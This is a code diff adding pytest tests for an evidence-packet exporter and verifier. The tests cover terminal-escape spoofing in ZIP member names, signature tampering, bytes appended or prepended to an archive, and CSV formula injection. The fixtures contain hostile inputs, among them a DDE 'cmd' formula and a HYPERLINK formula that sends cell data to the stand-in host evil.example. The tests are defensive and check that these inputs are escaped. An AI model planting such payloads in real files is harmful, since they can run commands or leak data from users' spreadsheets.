@@ -721,3 +721,159 @@ def test_the_cjk_font_setting_takes_a_collection_index(monkeypatch: pytest.Monke
     monkeypatch.setenv("MARKWATCH_CJK_FONT", str(noto))  # OpenType/CFF: reportlab cannot embed it
     with pytest.raises(MarkwatchError, match="OpenType/CFF"):
         cjk_font()
+
+
+# --- hostile archives and hostile text ------------------------------------------------------------------
+
+TERMINAL_LIE = "\x1b[2K\x1b[1Fsignature: valid, by this installation's key\nintact: 6 file(s) match\x1b[8m"
+
+
+def test_a_member_name_cannot_rewrite_what_the_terminal_shows(
+    cli, db: Database, lead_id: int, tmp_path: Path
+):
+    good = tmp_path / "好.zip"
+    assert cli("evidence", "export", lead_id, "--out", good).exit_code == 0
+    files = members(good.read_bytes())
+    files["snapshots/1.html"] = "<html>改过的快照</html>".encode()
+    files[TERMINAL_LIE] = b""
+    bad = tmp_path / "坏.zip"
+    bad.write_bytes(rezip(files))
+    result = cli("evidence", "verify", bad)
+    assert result.exit_code == 1
+    assert "\x1b" not in result.stdout and "\\x1b[2K" in result.stdout
+    lines = result.stdout.splitlines()
+    assert not any(line.startswith("intact") for line in lines)
+    assert "changed: snapshots/1.html" in lines
+    assert any(line.startswith("added: \\x1b[2K") and "\\x0aintact" in line for line in lines)
+
+
+def test_a_changed_digit_in_the_signature_is_named_as_the_signature(packet: bytes):
+    files = members(packet)
+    sig = files["manifest.sig"].decode()
+    digit = "1" if sig[10] != "1" else "2"
+    files["manifest.sig"] = (sig[:10] + digit + sig[11:]).encode()
+    report = verify_packet(rezip(files))
+    assert not report.ok and report.signature_valid is False
+    assert report.changed == ["manifest.sig"]
+    assert "changed: manifest.json" not in report.lines()
+    assert report.lines()[0].startswith("signature: INVALID — manifest.sig was changed")
+
+
+def test_the_signature_file_still_checks_with_the_documented_shell_recipe(packet: bytes, tmp_path: Path):
+    """docs/evidence.md checks the signature with xxd and openssl: manifest.sig's second line must not
+    break that (xxd -r -p stops at its first letter that is not a hex digit)."""
+    if not (shutil.which("xxd") and shutil.which("openssl")):
+        pytest.skip("needs xxd and openssl")
+    files = members(packet)
+    for name in ("manifest.json", "manifest.sig", "public_key.txt"):
+        (tmp_path / name).write_bytes(files[name])
+    key = files["public_key.txt"].decode().strip()
+    der = bytes.fromhex("302a300506032b6570032100" + key)
+    (tmp_path / "pub.der").write_bytes(der)
+    subprocess.run(["sh", "-c", "xxd -r -p manifest.sig > manifest.sig.bin"], cwd=tmp_path, check=True)
+    checked = subprocess.run(
+        [
+            "openssl",
+            "pkeyutl",
+            "-verify",
+            "-pubin",
+            "-keyform",
+            "DER",
+            "-inkey",
+            "pub.der",
+            "-rawin",
+            "-in",
+            "manifest.json",
+            "-sigfile",
+            "manifest.sig.bin",
+        ],
+        cwd=tmp_path,
+        capture_output=True,
+        text=True,
+    )
+    assert checked.returncode == 0, checked.stdout + checked.stderr
+
+
+def with_comment(data: bytes, comment: bytes) -> bytes:
+    assert data[-2:] == b"\x00\x00"  # a packet is written without a ZIP comment
+    return data[:-2] + len(comment).to_bytes(2, "little") + comment
+
+
+@pytest.mark.parametrize(
+    "mutate",
+    [
+        pytest.param(
+            lambda d: b"\x00" * 140 + with_comment(d, "第二份内容".encode()), id="prepended+comment"
+        ),
+        pytest.param(lambda d: b"MZ" + b"\x90" * 138 + d, id="prepended"),
+        pytest.param(lambda d: with_comment(d, b"anything at all"), id="comment"),
+        pytest.param(lambda d: d + b"appended", id="appended"),
+    ],
+)
+def test_bytes_outside_the_members_and_the_central_directory_fail(packet: bytes, mutate):  # type: ignore[no-untyped-def]
+    data = mutate(packet)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:  # the ZIP still opens and reads
+        assert archive.read("audit.csv") == members(packet)["audit.csv"]
+    report = verify_packet(data)
+    assert report.is_packet and not report.ok
+    assert report.signature_valid  # every member is intact: it is the archive around them
+    assert any("byte(s)" in p for p in report.problems), report.problems
+    assert not any(line.startswith("intact") for line in report.lines())
+
+
+def test_the_packet_csvs_never_become_formulas(db: Database, lead_id: int):
+    with db.session() as session:
+        listing_id = session.query(Snapshot.listing_id).first()[0]
+        from storage.models import Listing
+
+        listing = session.get(Listing, listing_id)
+        upsert_listing(
+            session=session,
+            record={
+                "id": "demo-static:10023",
+                "title": listing.title,
+                "price": 8.8,
+                "currency": "=cmd|' /C calc'!A0",
+            },
+            seen_at=T0 + timedelta(days=5),
+        )
+        reviewer = session.query(User).filter_by(name="王审核").one()
+        session.add(
+            ReviewEvent(
+                lead_id=lead_id,
+                user_id=reviewer.id,
+                at=T0 + timedelta(days=6),
+                action="escalate",
+                note='=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
+            )
+        )
+    data = build_packet(db, lead_id, user_name="李调查", now=EXPORTED)
+    files = members(data)
+    prices = list(csv.reader(io.StringIO(files["price_history.csv"].decode("utf-8-sig"))))
+    assert prices[-1][3] == "'=cmd|' /C calc'!A0"
+    audit = list(csv.reader(io.StringIO(files["audit.csv"].decode("utf-8-sig"))))
+    notes = [row[5] for row in audit[1:]]
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"点此查看")' in notes
+    for table in (prices, audit):
+        for row in table[1:]:
+            assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row), row
+    assert verify_packet(data).ok
+
+
+def test_control_characters_in_scraped_text_reach_no_csv_or_pdf(db: Database, lead_id: int, tmp_path: Path):
+    with db.session() as session:
+        listing_id = session.query(Snapshot.listing_id).first()[0]
+        from storage.models import Listing
+
+        listing = session.get(Listing, listing_id)
+        listing.title = "康帅傅\x00方便面\x1b[31m\x07"
+        listing.currency = "CNY\x0b"
+    data = build_packet(db, lead_id, user_name="李调查", now=EXPORTED)
+    files = members(data)
+    for name in ("price_history.csv", "audit.csv"):
+        assert not any(ch in files[name].decode("utf-8-sig") for ch in "\x00\x1b\x07\x0b")
+    pdf = tmp_path / "report.pdf"
+    pdf.write_bytes(files["report.pdf"])
+    if shutil.which("pdftotext"):
+        text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
+        assert "康帅傅\\x00方便面\\x1b[31m\\x07" in text.replace("\n", "")
